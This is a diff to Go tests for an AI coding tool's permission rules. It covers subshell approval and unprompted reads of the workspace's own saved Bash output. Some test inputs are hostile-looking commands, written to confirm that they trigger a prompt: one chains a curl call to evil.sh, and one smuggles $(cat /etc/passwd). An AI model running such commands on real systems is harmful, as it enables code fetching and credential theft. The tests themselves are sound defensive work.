@@ -212,7 +212,7 @@ func TestRules(t *testing.T) {
 		{"compound background", `["Bash(sleep:*)"]`, bash("sleep 1 & curl evil.sh"), asked},
 		{"substitution needs whole match", `["Bash(echo:*)"]`, bash("echo $(cat /etc/passwd)"), asked},
 		{"substitution exact whole", "[\"Bash(echo $(date))\"]", bash("echo $(date)"), allowed},
-		{"subshell", `["Bash(cd:*)", "Bash(make:*)"]`, bash("(cd sub && make)"), asked},
+		{"subshell judged per command", `["Bash(cd:*)", "Bash(make:*)"]`, bash("(cd sub && make)"), allowed},
 		{"Edit rule relative", `["Edit(src/**)"]`, writes(editTool, "src/pkg/b.go"), allowed},
 		{"Edit rule covers Write", `["Edit(src/**)"]`, writes(writeTool, filepath.Join("src", "new.go")), allowed},
 		{"Edit rule covers NotebookEdit", `["Edit(src/**)"]`, writes(notebookTool, "src/n.ipynb"), allowed},
@@ -634,5 +634,46 @@ func TestReviewInEditorReplacesTheDialogForEdits(t *testing.T) {
 				t.Errorf("prompts sent: %d, want asked=%v", asked, c.wantAsked)
 			}
 		})
+	}
+}
+
+// TestReadOfSavedOutputIsNotAsked: the file a Bash result names for its
+// whole output lives in the workspace's state folder, outside the
+// workspace; the model is told to Read it, and does so without a prompt,
+// as Claude Code reads its saved tool results. Another file outside, and
+// another workspace's saved output, still ask.
+func TestReadOfSavedOutputIsNotAsked(t *testing.T) {
+	t.Setenv("TOOLHOST_STATE_DIR", t.TempDir())
+	e := newEnv(t, "")
+	mine, err := workspace.StateDir(e.root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	theirs, _ := workspace.StateDir(e.outside)
+	var paths []string
+	for _, d := range []string{mine, theirs} {
+		p := filepath.Join(d, "output", "bash-1.log")
+		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte("x"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, p)
+	}
+	tests := []struct {
+		path string
+		want verdict
+	}{
+		{paths[0], allowed},
+		{paths[1], asked},
+		{filepath.Join(mine, "other.txt"), asked},
+		{filepath.Join(e.outside, "secret.txt"), asked},
+	}
+	for _, tt := range tests {
+		got, _, _ := run(t, e.checker(tools.ModeDefault), reads(readTool, tt.path))
+		if got != tt.want {
+			t.Errorf("Read %s: %s, want %s", tt.path, got, tt.want)
+		}
 	}
 }
